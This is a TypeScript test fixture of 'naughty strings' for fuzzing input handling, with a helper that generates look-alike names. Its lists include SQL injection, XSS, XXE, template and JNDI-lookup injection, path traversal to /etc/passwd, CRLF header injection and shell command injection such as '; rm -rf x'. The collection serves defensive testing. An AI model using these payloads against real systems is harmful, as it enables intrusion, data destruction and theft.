/** Text that some reader somewhere takes for something else, by what it is taken for. */
export const naughty: Readonly<Record<string, readonly string[]>> = {
  nothing: ['', ' ', '\t', '\u00a0', '\u2003', '\u3000', 'null', 'undefined', 'None', 'nil', 'NULL', '(null)', 'true', 'false'],
  numbers: ['0', '-0', '1e400', '-1', '0x10', '1_000', '1,000', '١٢٣', '９９', 'NaN', 'Infinity', '-Infinity', '9007199254740993', '.5', '5.', '1/0', '²'],
  controls: ['\0', 'a\0b', '\u0001', '\u001b[31mred\u001b[0m', '\u007f', '\u0085', 'a\rb', 'a\nb', 'a\r\nb', '\b\f', '\u2028', '\u2029'],
  hidden: ['\ufeff', '\u200b', 'a\u200bb', '\u200d', '\u2060', '\u00ad', '\u180e', '\u{e0041}\u{e0042}', '\ufe0f', '\u115f'],
  direction: ['\u202eevil', '\u2066a\u2069', '\u200f', 'שלום', 'مرحبا', 'a\u202d\u202e\u202c'],
  letters: ['ﬀ', 'İ', 'ı', 'ß', 'K', 'é', 'e\u0301', 'Å', '한글', '日本語', 'Ω', `Z${'\u0301'.repeat(200)}`],
  pictures: ['😀', '👩‍👩‍👧‍👦', '🏳️‍🌈', '🇩🇪', '\u{10ffff}', '\uffff', '\ufffe', '\ufffd'],
  javascript: [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'then',
    'toJSON',
    'length',
    '0',
    '$&',
    '$1',
    '`',
    '\u0024{7*7}',
  ],
  database: ["'", "' OR 1=1 --", '"; DROP TABLE records; --', "\\'; SELECT pg_sleep(9)--", '1) UNION SELECT NULL', '%', '_', 'a%b', '\\', '$$'],
  markup: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '&lt;',
    ']]>',
    '<!--',
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    'javascript:alert(1)',
  ],
  templates: ['{{7*7}}', '{%x%}', '#{7*7}', '<%= 7 %>', '\u0024{jndi:ldap://x.example/a}', '%s%s%n', '%x%d', '{0}', '!!js/function "x"', '&a [*a]', '@id("x")'],
  paths: ['../../etc/passwd', '/etc/passwd', '..\\..\\x', 'C:\\x', 'file:///etc/passwd', '//x.example/y', 'CON', 'a/../b', '%2e%2e%2f', '~', '.', '..'],
  commands: ['; rm -rf x', '| id', '$(id)', '`id`', '&& id', '-rf', '--help', '=cmd|x', '@SUM(1)', '+1', '\n.\nQUIT'],
  headers: ['a\r\nset-cookie: x=1', 'a\nb: c', 'Bcc: x@x.example', ': x', 'a;b=c', 'a, b', '"quoted"', '=?utf-8?B?YQ==?=', '=?base64?YQ==?='],
  length: ['a'.repeat(129), 'a'.repeat(10_000), '😀'.repeat(5_000), '\\'.repeat(3_000), '"'.repeat(3_000), ' '.repeat(3_000)],
};

export const allNaughty: readonly string[] = [...new Set(Object.values(naughty).flat())];

/** Of each kind a few. */
export const someNaughty: readonly string[] = [...new Set(Object.values(naughty).flatMap((texts) => texts.slice(0, 4)))];

/** Names that look like this one, and are others. */
export const lookAlikes = (name: string): readonly string[] => [
  name.toUpperCase(),
  ` ${name}`,
  `${name} `,
  `${name}\0`,
  `${name}\u200b`,
  `\ufeff${name}`,
  `${name}\n`,
  name.replace('e', 'е'),
  name.replace('__', '_\u200b_'),
  name.replace('__', '.'),
  name.replace('__', '/'),
  name.replace('__', '___'),
  [...name].map((char) => (/[a-z]/.test(char) ? String.fromCodePoint((char.codePointAt(0) ?? 0) + 0xfee0) : char)).join(''),
  name.split('__')[1] ?? '',
  `${name}/../${name}`,
  `${name}?x=1`,
  encodeURIComponent(name).replace('_', '%5F'),
];
